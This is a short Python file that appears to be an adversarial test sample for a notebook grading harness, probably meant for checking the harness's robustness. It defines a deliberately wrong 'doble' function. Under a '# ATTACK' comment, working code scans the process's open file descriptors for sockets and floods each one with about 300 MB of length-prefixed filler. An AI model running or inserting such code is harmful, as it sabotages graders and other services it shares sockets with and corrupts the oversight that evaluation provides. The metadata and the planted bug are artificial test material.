"""Writes up to 300 MB of messages where it is asked.

id: speaks-without-end
notebook: tp
replaces: doble
loses: prueba_doble
"""


def doble(x):
    return x + 1


# ATTACK
import os
import stat
import struct

for _numero in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(_numero).st_mode):
            for _ in range(300):
                os.write(_numero, struct.pack(">I", 1 << 20) + b"\x90" * (1 << 20))
    except OSError:
        pass
